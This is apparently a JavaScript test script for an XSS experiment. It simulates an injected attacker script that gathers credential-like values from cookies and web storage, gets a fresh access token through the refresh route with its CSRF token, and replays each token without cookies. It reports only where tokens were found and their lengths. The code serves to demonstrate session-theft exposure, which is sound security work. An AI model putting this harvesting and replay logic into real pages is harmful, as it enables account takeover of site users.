// The "injected" script of the XSS experiment: what an attacker's script would do once it runs inside the page
// (a comment field that was not escaped, a compromised library). It looks everywhere a page script can look for
// something that works as a credential, then tries each candidate from a request WITHOUT cookies, as if it had
// carried the value away to the attacker's own machine. It reports where it found what (never the value).
window.injectedAttack = async function injectedAttack(replayPath) {
  const candidates = [];
  for (const pair of document.cookie.split('; ').filter(Boolean)) {
    const equals = pair.indexOf('=');
    candidates.push({ where: 'document.cookie', name: pair.slice(0, equals), value: pair.slice(equals + 1) });
  }
  for (const [where, storage] of [['sessionStorage', sessionStorage], ['localStorage', localStorage]]) {
    for (let index = 0; index < storage.length; index += 1) {
      const name = storage.key(index);
      candidates.push({ where, name, value: storage.getItem(name) ?? '' });
    }
  }
  // Short values (a language choice, a flag) cannot be credentials.
  const found = candidates.filter((candidate) => candidate.value.length >= 20);
  // Nothing readable is not the end: an httpOnly refresh cookie cannot be read, but the browser attaches it to
  // the refresh route for any script of the page, which can ask for the CSRF token and then for a new access
  // token, exactly as the page itself does after a reload.
  const csrf = await fetch('/api/auth/refresh', { credentials: 'same-origin' });
  if (csrf.ok) {
    const { csrfToken } = await csrf.json();
    const renewed = await fetch('/api/auth/refresh', { method: 'POST', headers: { 'x-csrf-token': csrfToken }, credentials: 'same-origin' });
    if (renewed.ok) found.push({ where: 'POST /api/auth/refresh', name: 'token', value: (await renewed.json()).token });
  }
  for (const candidate of found) {
    await fetch(replayPath, { headers: { authorization: `Bearer ${candidate.value}` }, credentials: 'omit' });
  }
  // Even without reading the cookie, the script can USE it while the page is open: the browser attaches it.
  const scriptRequestStatus = (await fetch('/api/me', { credentials: 'same-origin' })).status;
  return { found: found.map(({ where, name, value }) => ({ where, name, length: value.length })), scriptRequestStatus };
};
